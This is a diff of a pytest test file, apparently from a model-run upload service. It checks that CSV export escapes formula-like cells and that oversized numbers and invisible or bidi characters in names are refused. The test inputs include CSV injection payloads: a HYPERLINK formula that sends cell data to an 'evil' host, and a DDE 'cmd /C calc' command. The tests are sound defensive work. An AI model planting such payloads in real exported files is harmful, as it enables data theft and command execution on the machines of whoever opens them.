@@ -25,8 +25,9 @@ K1 = dict(fx.MANIFEST, k=1, hardware="cpu-gloo-2", precision="fp32")
 ATTEMPTS = {(ALL_REDUCE, 1): GOOD}
 
 
-@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil/?"&A1,"click")', "-2+3+cmd|' /C calc'!A0", "+1+1",
-                                  "@SUM(A1)", "\t=1+1", "\r=1+1"])
+@pytest.mark.parametrize(
+    "cell", ['=HYPERLINK("http://evil/?"&A1,"click")', "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+)
 def test_csv_cells_that_would_be_formulas_are_written_as_text(cell):
     assert _csv_cell(cell) == "'" + cell
     assert _csv_cell(-2.5) == "-2.5" and _csv_cell(-3) == -3 and _csv_cell("plain") == "plain"
@@ -34,8 +35,7 @@ def test_csv_cells_that_would_be_formulas_are_written_as_text(cell):
 
 def _upload(api_client, manifest: dict):
     archive = build_archive(manifest, ATTEMPTS)
-    return api_client.post("/api/model-runs/", {"archive": SimpleUploadedFile("run.zip", archive)},
-                           format="multipart")
+    return api_client.post("/api/model-runs/", {"archive": SimpleUploadedFile("run.zip", archive)}, format="multipart")
 
 
 def test_a_model_named_like_a_formula_exports_as_text(api_client, problems, redis_conn):
@@ -47,10 +47,12 @@ def test_a_model_named_like_a_formula_exports_as_text(api_client, problems, redi
     assert rows and rows[0]["model"] == '\'=HYPERLINK("http://evil","x")'
 
 
-@pytest.mark.parametrize("field, value", [("tokens", 2 ** 63), ("tokens", 10 ** 30), ("turn_budget", 2 ** 40),
-                                          ("wall_time_s", 1e300)])
-def test_manifest_numbers_beyond_the_database_are_a_400_naming_the_field(api_client, problems, redis_conn, field,
-                                                                       value):
+@pytest.mark.parametrize(
+    "field, value", [("tokens", 2**63), ("tokens", 10**30), ("turn_budget", 2**40), ("wall_time_s", 1e300)]
+)
+def test_manifest_numbers_beyond_the_database_are_a_400_naming_the_field(
+    api_client, problems, redis_conn, field, value
+):
     manifest = dict(K1, **{field: value})
     if field == "turn_budget":
         manifest["protocol"] = "agentic"
@@ -70,9 +72,11 @@ def test_invisible_characters_in_model_names_are_refused(api_client, problems, r
 
 @pytest.mark.parametrize("char", ["\u202e", "\u2069", "\u200d", "\ufeff", "\x00"])
 def test_invisible_characters_in_file_names_are_refused(api_client, user, problems, redis_conn, char):
-    response = api_client.post("/api/submissions/", {"problem": ALL_REDUCE, "profile": "cpu-gloo-2",
-                                                     "source": GOOD, "filename": f"sol{char}ution.py"},
-                               format="json")
+    response = api_client.post(
+        "/api/submissions/",
+        {"problem": ALL_REDUCE, "profile": "cpu-gloo-2", "source": GOOD, "filename": f"sol{char}ution.py"},
+        format="json",
+    )
     assert response.status_code == 400, response.content
     assert response.json()["detail"].startswith(("The file name holds U+", "Null characters are not allowed"))
     with pytest.raises(ValidationError, match="The archive's file name holds U\\+"):
